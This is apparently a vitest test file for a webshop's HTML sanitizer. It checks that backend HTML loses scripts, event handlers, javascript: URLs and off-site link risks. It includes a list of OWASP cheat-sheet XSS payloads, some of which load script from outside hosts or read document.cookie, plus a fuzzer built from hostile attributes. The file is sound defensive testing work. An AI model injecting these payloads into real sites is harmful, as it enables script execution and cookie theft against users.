// Runs in workerd: HTMLRewriter is the runtime's own parser.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { workerdFunction } from '../../../tests/support/workerd';
import { isOffSite, OFF_SITE_REL } from './sanitize-html';

let sanitize: Awaited<ReturnType<typeof workerdFunction>>;
beforeAll(async () => { sanitize = await workerdFunction('./worker/shopware/mappers/sanitize-html.ts', 'sanitizeHtml'); });
afterAll(() => sanitize.dispose());

const ALLOWED_TAG = /<\/?(p|br|strong|b|em|i|u|s|small|sub|sup|span|ul|ol|li|h2|h3|h4|blockquote|table|thead|tbody|tr|th|td|a)\s*\/?>/gi;
const SAFE_LINK = /<a href=(?:"(https?:|mailto:|tel:|\/|#)[^"<>]*"|'(https?:|mailto:|tel:|\/|#)[^'<>]*')( rel="noopener noreferrer nofollow")?\s*\/?>/gi;

/**
 * Whatever is left once the allowed tags are taken out must hold no markup at all. A stray end
 * tag without attributes (`</img>`, which HTMLRewriter cannot reach: it has no start tag) starts
 * nothing in a browser, so it is not counted.
 */
function expectOnlyAllowedMarkup(output: string | null, input: string) {
  const rest = (output ?? '').replace(SAFE_LINK, '').replace(ALLOWED_TAG, '').replace(/<\/[a-z][a-z0-9]*>/gi, '');
  expect(rest, `${input}\n→ ${output}`).not.toMatch(/[<>]/);
  expect(output ?? '', input).not.toMatch(/<[^>]*(on\w+\s*=|javascript:|style\s*=|src\s*=)/i);
  // Every link that leaves the shop says so: no opener, no referrer, no vote for it.
  for (const [, quoted, apostrophed, rel] of (output ?? '').matchAll(/<a href=(?:"([^"]*)"|'([^']*)')(?: rel="([^"]*)")?/g)) {
    expect(rel, `${input}\n→ ${output}`).toBe(isOffSite(quoted ?? apostrophed ?? '') ? OFF_SITE_REL : undefined);
  }
}

// The OWASP XSS filter evasion cheat sheet's vectors (and the bypass of issue #15), as backend HTML.
const PAYLOADS = [
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noscript><img src=x onerror=alert(1)></noscript>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><img src=x onerror=alert(1)></noframes>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<style><img src=x onerror=alert(1)></style>',
  '<template><img src=x onerror=alert(1)></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<p><textarea></p><img src=x onerror=alert(1)></textarea></p>',
  '<section><textarea><img src=x onerror=alert(1)></textarea></section>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  "<IMG SRC=\"javascript:alert('XSS');\">",
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<svg/onload=alert(\'XSS\')>',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<STYLE>@import\'http://xss.rocks/xss.css\';</STYLE>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<!--[if gte IE 4]><SCRIPT>alert(\'XSS\');</SCRIPT><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<span>&lt;img src=x onerror=alert(1)&gt;</span>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<a href="/ok" onclick="alert(1)" style="x">ok</a><a href="data:text/html,<script>alert(1)</script>">d</a>',
  '<p>1 < 2 > 0 and <3</p>',
  '<dialog open><img src=x onerror=alert(1)></dialog>',
];

/**
 * Backend HTML as a fuzzer writes it (#33): tags of every kind (kept, dropped with their content,
 * unknown, the parser's ambiguous contexts), hostile attributes, unfinished tags and quotes,
 * comments, CDATA and stray markup characters, nested at random. Seeded: the same inputs each run.
 */
function fuzzInputs(count: number, seed = 33): string[] {
  let state = seed;
  const random = () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const pick = <T,>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
  const TAGS = ['p', 'a', 'b', 'br', 'ul', 'li', 'table', 'td', 'span', 'h2', 'div', 'section', 'img', 'IMG', 'ScRiPt', 'script', 'style', 'title',
    'textarea', 'xmp', 'iframe', 'noscript', 'noembed', 'noframes', 'plaintext', 'template', 'select', 'SELECT', 'option', 'frameset', 'svg', 'math',
    'mtext', 'mglyph', 'form', 'button', 'input', 'object', 'details', 'dialog', 'video', 'x-y', 'veld-dropped'];
  const ATTRIBUTES = ['onerror=alert(1)', 'onclick="alert(1)"', "onmouseover='alert(1)'", 'style="color:red"', 'href="javascript:alert(1)"',
    'href="/ok"', "href='/ok'", 'href=" javascript:alert(1)"', 'href="https://veld.nl"', 'href="//evil.example"', 'href="/\\evil.example"', 'rel="opener"', 'src=x', 'title="<img src=x onerror=alert(1)>"',
    'title="a>b"', 'open', 'srcdoc="<script>alert(1)</script>"', 'x="', "y='", 'formaction=javascript:alert(1)'];
  const TEXT = ['wol', 'Zacht & warm', '1 < 2', '3 > 2', '&lt;img src=x onerror=alert(1)&gt;', '&amp;', '"', "'", '=', '<', '>', '</', '<!', '<!--',
    '-->', '--!>', '<![CDATA[', ']]>', '<?xml ?>', '<!doctype html>', '//', '\u0000', ' '];
  const inputs: string[] = [];
  for (let n = 0; n < count; n++) {
    let html = '';
    const pieces = 1 + Math.floor(random() * 12);
    for (let i = 0; i < pieces; i++) {
      const kind = random();
      if (kind < 0.4) {
        const attributes = Array.from({ length: Math.floor(random() * 3) }, () => ` ${pick(ATTRIBUTES)}`).join('');
        html += `<${pick(TAGS)}${attributes}${random() < 0.9 ? (random() < 0.1 ? '/>' : '>') : ''}`;
      } else if (kind < 0.65) {
        html += `</${pick(TAGS)}${random() < 0.9 ? '>' : ''}`;
      } else {
        html += pick(TEXT);
      }
    }
    inputs.push(html);
  }
  return inputs;
}

describe('sanitizeHtml', () => {
  it('keeps text-level markup and safe links', async () => {
    expect(await sanitize.call('<p>Zacht <strong>wol</strong> en <a href="/Dames/">meer</a></p>'))
      .toBe('<p>Zacht <strong>wol</strong> en <a href="/Dames/">meer</a></p>');
    expect(await sanitize.call('<a href="https://veld.nl" target="_blank">x</a>')).toBe('<a href="https://veld.nl" rel="noopener noreferrer nofollow">x</a>');
  });
  it('treats a protocol-relative link as off-site, however it is spelled (#49)', async () => {
    for (const href of ['//evil.example', '///evil.example', '/\\evil.example', '/\t/evil.example', ' //evil.example']) {
      expect(await sanitize.call(`<a href="${href}" rel="opener">x</a>`), href).toMatch(/^<a href="[^"]*" rel="noopener noreferrer nofollow">x<\/a>$/);
    }
    // Not a URL the sanitiser keeps at all: the link loses its address.
    expect(await sanitize.call('<a href="\\\\evil.example/x">x</a>')).toBe('<a>x</a>');
    expect(await sanitize.call('<a href="/Dames/" rel="nofollow">x</a>')).toBe('<a href="/Dames/">x</a>');
    expect(await sanitize.call('<a href="#maten">x</a>')).toBe('<a href="#maten">x</a>');
    expect(await sanitize.call('<a href="mailto:hallo@veld.nl">x</a>')).toBe('<a href="mailto:hallo@veld.nl">x</a>');
    expect(await sanitize.call('<p>Prijs &amp; kwaliteit &lt;3</p>')).toBe('<p>Prijs &amp; kwaliteit &lt;3</p>');
  });
  it('drops scripts, styles, frames and forms with their content', async () => {
    expect(await sanitize.call('<p>a</p><script>alert(1)</script><style>p{}</style><iframe src="x"></iframe><form><input></form>'))
      .toBe('<p>a</p>');
  });
  it('drops raw-text elements with their content instead of unwrapping them into live markup', async () => {
    expect(await sanitize.call('<p>a</p><textarea><img src=x onerror=alert(1)></textarea><p>b</p>')).toBe('<p>a</p><p>b</p>');
    for (const tag of ['title', 'xmp', 'noembed', 'noframes', 'noscript', 'iframe', 'template', 'style', 'script']) {
      expect(await sanitize.call(`<p>a</p><${tag}><img src=x onerror=alert(1)></${tag}>`), tag).toBe('<p>a</p>');
    }
    expect(await sanitize.call('<p>a</p><plaintext><img src=x onerror=alert(1)>')).toBe('<p>a</p>');
  });
  it('escapes markup characters in text, so text stays text', async () => {
    expect(await sanitize.call('<p>1 < 2 > 0</p>')).toBe('<p>1 &lt; 2 &gt; 0</p>');
  });
  it('drops event handlers, inline styles and javascript: URLs', async () => {
    expect(await sanitize.call('<p onclick="x()" style="color:red">a</p><a href="javascript:alert(1)">b</a><img src=x onerror=alert(1)>'))
      .toBe('<p>a</p><a>b</a>');
  });
  it('unwraps unknown elements and gives null for nothing', async () => {
    expect(await sanitize.call('<section><div>tekst</div></section>')).toBe('tekst');
    expect(await sanitize.call('   ')).toBeNull();
    expect(await sanitize.call(null)).toBeNull();
  });
  it('never throws: markup the parser cannot read leaves the rest of the page', async () => {
    // lol-html refuses a raw-text tag inside <select> or after <frameset> (a parser error).
    expect(await sanitize.call('<p>a</p><select><style>td{}</style></select><p>b</p>')).toBe('<p>a</p><p>b</p>');
    for (const tag of ['style', 'title', 'iframe', 'noscript', 'textarea', 'xmp', 'script']) {
      expect(await sanitize.call(`<p>a</p><select><${tag}>x</${tag}></select>`), tag).toBe('<p>a</p>');
      expect(await sanitize.call(`<p>a</p><frameset><${tag}>x</${tag}>`), tag).toBe('<p>a</p>');
    }
  });
  it('leaves an unfinished tag at the end as text, never for the page around it to finish', async () => {
    expect(await sanitize.call('<p>a</p><img src=x onerror=alert(1)//')).toBe('<p>a</p>&lt;img src=x onerror=alert(1)//');
    expect(await sanitize.call('<p>a</p><img src="x onerror=alert(1)>')).toBe('<p>a</p>&lt;img src="x onerror=alert(1)&gt;');
  });
  it('never throws and leaves no live markup from 1,200 generated inputs', async () => {
    for (const input of fuzzInputs(1_200)) {
      const output = await sanitize.call(input) as string | null;
      expect(output === null || typeof output === 'string', input).toBe(true);
      expectOnlyAllowedMarkup(output, input);
    }
    // 1,200 calls into the worker: 15 s beside the end-to-end tests, 45 s beside a second
    // `npm test` (scripts/busy-machine.sh, 2026-11-29); a bound far past either.
  }, 300_000);
  it(`leaves no live markup from ${PAYLOADS.length} XSS vectors (OWASP cheat sheet and raw-text bypasses)`, async () => {
    for (const payload of PAYLOADS) {
      const output = await sanitize.call(`<p>voor</p>${payload}<p>na</p>`) as string | null;
      expectOnlyAllowedMarkup(output, payload);
    }
  });
});
